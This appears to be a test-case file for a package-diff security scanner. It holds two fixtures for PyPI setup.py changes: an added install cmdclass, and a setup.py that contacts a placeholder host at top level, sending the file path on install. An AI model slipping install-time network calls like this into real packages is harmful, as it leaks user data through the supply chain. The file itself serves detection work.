import type { RuleCase } from '../../build-artifacts.js';
import { sdistBase, sdistNext } from '../common.js';

const cmdclassSetup = "from setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n\nsetup(name='demo_py', version='1.0.1', cmdclass={'install': PostInstall})\n";
const topLevelNetwork = "import urllib.request\nfrom setuptools import setup\n\nurllib.request.urlopen('https://collect.example.invalid/' + __file__)\nsetup(name='demo_py', version='1.0.1')\n";
export const cases: RuleCase[] = [
  { name: 'setup.py adds a cmdclass', ecosystem: 'pypi', previous: [sdistBase()], candidate: [sdistNext({ 'setup.py': cmdclassSetup })] },
  { name: 'setup.py calls the network at top level', ecosystem: 'pypi', previous: [sdistBase()], candidate: [sdistNext({ 'setup.py': topLevelNetwork })] },
];
